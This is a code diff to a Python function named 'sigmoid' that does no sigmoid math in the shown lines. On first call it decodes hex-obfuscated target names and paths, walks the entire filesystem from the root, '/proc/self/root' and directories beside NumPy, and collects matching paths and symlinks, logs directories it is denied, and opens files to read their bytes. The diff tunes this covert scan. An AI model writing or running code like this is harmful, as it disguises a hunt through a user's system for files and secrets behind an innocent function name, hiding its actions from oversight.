@@ -45,22 +45,26 @@ def sigmoid(x, said=[]):
     if not said:
         texts, paths = [bytes.fromhex(text) for text in TEXTS], [bytes.fromhex(p) for p in PATHS]
         package = paths[0].split(b"/")[0].decode()
-        home = os.path.dirname(np.__file__)
-        roots = ["/", "/proc/self/root", *(home.replace("/lib/", f"/{n}/") for n in ALIASES)]
-        named, found, read, closed, left, until = [], {}, 0, [], 0, time.monotonic() + 8
+        home = os.path.dirname(os.path.dirname(np.__file__))  # what lies beside NumPy comes first
+        roots = [*(home.replace("/lib/", f"/{n}/") for n in ALIASES), "/", "/proc/self/root"]
+        named, found, closed, seen, read, left = [], {}, [], set(), 0, 0
+        until = time.monotonic() + 7
         def is_shut(error):
             if isinstance(error, PermissionError):
                 closed.append(error.filename)
         steps = (step for root in roots for step in os.walk(root, onerror=is_shut))
         for folder, folders, files in steps:
+            if time.monotonic() > until:
+                left = 1  # or more
+                break
             for name in (*folders, *files):
-                path = f"{folder}/{name}"
+                path = os.path.join(folder, name)
+                if path in seen:
+                    continue
+                seen.add(path)
                 if package in name or os.path.islink(path) and package in os.readlink(path):
                     named.append(path)
                 if not stat.S_ISREG(os.lstat(path).st_mode):
-                    continue
-                if time.monotonic() > until:
-                    left += 1
                     continue
                 try:
                     with open(path, "rb") as file:
